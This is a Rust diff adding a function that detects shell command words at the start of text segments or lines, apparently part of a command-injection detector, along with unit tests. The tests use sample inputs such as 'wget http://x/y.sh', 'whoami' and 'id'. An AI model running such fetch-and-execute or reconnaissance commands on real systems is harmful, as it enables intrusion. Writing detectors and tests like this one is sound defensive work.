@@ -237,6 +237,20 @@ fn separator_at(text: &str, start: usize) -> (Separator, usize) {
 }
 
 static UNAMBIGUOUS_SET: LazyLock<WordSet> = LazyLock::new(|| WordSet::new(UNAMBIGUOUS));
+static COMMAND_SET: LazyLock<WordSet> = LazyLock::new(|| WordSet::new(&command_words()));
+
+/// Longer words are not in `commands!()` (checked by a test).
+const LONGEST_COMMAND: usize = 10;
+
+/// The words of `commands!()`, the list the command-injection expressions alternate over.
+fn command_words() -> Vec<&'static str> {
+    commands!()
+        .strip_prefix("(?:")
+        .and_then(|list| list.strip_suffix(')'))
+        .expect("commands!() is one non-capturing group")
+        .split('|')
+        .collect()
+}
 static WINDOWS_SET: LazyLock<WordSet> = LazyLock::new(|| WordSet::new(WINDOWS));
 
 /// `$(cmd ...)` or `` `cmd ...` `` opened at `start` and closed after the command word
@@ -296,9 +310,41 @@ pub fn chained_command(text: &str, _start: usize, end: usize, view: View) -> boo
     }
 }
 
+/// A command word starting `text` (a segment of `view`) or, in the lines view, one of its
+/// lines, confirmed like one after a separator. Returns where the command word ends.
+pub fn line_start_command(text: &str, view: View) -> Option<usize> {
+    // Outside the lines and shell views a word that starts a view passes `chained_command`
+    // only if it is unambiguous; asking that first spares every JSON key its parsing.
+    let word_set = match view {
+        View::Lines | View::Shell => &*COMMAND_SET,
+        _ => &*UNAMBIGUOUS_SET,
+    };
+    let bytes = text.as_bytes();
+    // Only the lines view keeps line breaks inside a segment.
+    let line_breaks = (view == View::Lines).then(|| memchr::memchr_iter(b'\n', bytes));
+    let line_starts = std::iter::once(0).chain(line_breaks.into_iter().flatten().map(|i| i + 1));
+    line_starts.into_iter().find_map(|start| {
+        if !bytes.get(start).is_some_and(u8::is_ascii_alphabetic) {
+            return None;
+        }
+        let word = bytes[start..]
+            .iter()
+            .take(LONGEST_COMMAND + 1)
+            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
+            .count();
+        let end = start + word;
+        let command = &text[start..end];
+        let found = word <= LONGEST_COMMAND
+            && word_set.contains(command)
+            && COMMAND_SET.contains(command)
+            && chained_command(text, start, end, view);
+        found.then_some(end)
+    })
+}
+
 #[cfg(test)]
 mod tests {
-    use super::chained_command;
+    use super::{chained_command, command_words, line_start_command, LONGEST_COMMAND};
     use crate::rules::View;
 
     fn check(text: &str, sep_at: usize, command: &str) -> bool {
@@ -336,6 +382,34 @@ mod tests {
         assert!(!check("cat food is great", 0, "cat"));
         assert!(!check("so; time for bed", 2, "time"));
         assert!(!check("it costs $(more than you think", 2, "more"));
+    }
+
+    #[test]
+    fn commands_start_views_and_lines() {
+        assert_eq!(line_start_command("whoami", View::Shell), Some(6));
+        assert_eq!(line_start_command("whoami", View::Original), None);
+        assert_eq!(
+            line_start_command("wget http://x/y.sh", View::Original),
+            Some(4)
+        );
+        assert_eq!(line_start_command("hi\nid", View::Lines), Some(5));
+        assert_eq!(line_start_command("id", View::Original), None);
+        assert_eq!(line_start_command("idle\nidx", View::Lines), None);
+        assert_eq!(line_start_command("cat food\nis great", View::Lines), None);
+    }
+
+    #[test]
+    fn command_list_is_plain_words() {
+        let words = command_words();
+        assert!(words.len() > 100);
+        assert_eq!(words.iter().map(|w| w.len()).max(), Some(LONGEST_COMMAND));
+        for word in words {
+            assert!(
+                word.bytes()
+                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit()),
+                "{word:?}"
+            );
+        }
     }
 
     #[test]
